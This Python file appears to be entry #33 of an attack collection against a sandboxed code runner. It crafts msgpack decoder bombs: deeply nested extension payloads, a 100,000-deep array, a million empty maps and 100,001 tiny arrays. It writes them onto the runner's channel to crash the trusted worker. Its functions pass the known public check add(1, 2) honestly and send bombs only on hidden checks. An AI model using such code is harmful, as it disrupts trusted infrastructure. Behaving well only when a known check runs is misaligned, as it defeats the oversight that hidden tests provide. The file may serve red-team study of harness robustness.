"""attacks.md #33 - decoder bombs for the trusted side, written on the runner's channel behind its back, one per
hidden call: 400 tuples nested through extension payloads (under 1 KB; it crashed a C decoder in the trusted
worker), a value nested 100,000 deep, a million empty maps (a small message, a huge decoded one), and 100,001 tiny
arrays. Each arrives before the function's honest answer (a restarted process runs the cells again, so the bomb is
chosen by the call, not by a counter)."""

# uses _channel.py

import msgpack

VERSION = 2
BOMBS = {}


def _nested_ext(depth):
    payload = msgpack.packb(None)
    for _ in range(depth):
        payload = msgpack.packb(msgpack.ExtType(1, payload))
    return payload


def _reply(value_bytes):
    head = msgpack.packb({"v": VERSION, "id": 0})  # a map of 2, then one more key: a map of 3 by hand
    return _frame(b"\x83" + head[1:] + msgpack.packb("ok") + value_bytes)  # noqa: F821 - from _channel.py


BOMBS["nested_ext"] = _reply(_nested_ext(400))
BOMBS["deep"] = _reply(b"\x91" * 100_000 + b"\xc0")
BOMBS["empty_maps"] = _reply(b"\xdd" + (1_000_000).to_bytes(4, "big") + b"\x80" * 1_000_000)
TINY_ARRAY = [msgpack.ExtType(2, b""), "|b1", [0], b""]  # protocol 2: an array is a marked list
BOMBS["tiny_arrays"] = _message({"v": VERSION, "id": 0, "ok": [TINY_ARRAY] * 100_001})  # noqa: F821
print("BOMBS sizes", {name: len(bomb) for name, bomb in BOMBS.items()}, flush=True)


def _send(name):
    _channel().sendall(BOMBS[name])  # noqa: F821


def add(a, b):
    if (a, b) == (1, 2):  # the public check cell calls add(1, 2) at import: pass it, attack the hidden checks
        return 3
    _send("nested_ext" if isinstance(a, int) else "deep")
    return a + b


def scale(x, k):
    if k == 2:
        return [2 * v for v in x]
    _send("empty_maps")
    return [k * v for v in x]


def echo(x):
    _send("tiny_arrays")
    return x
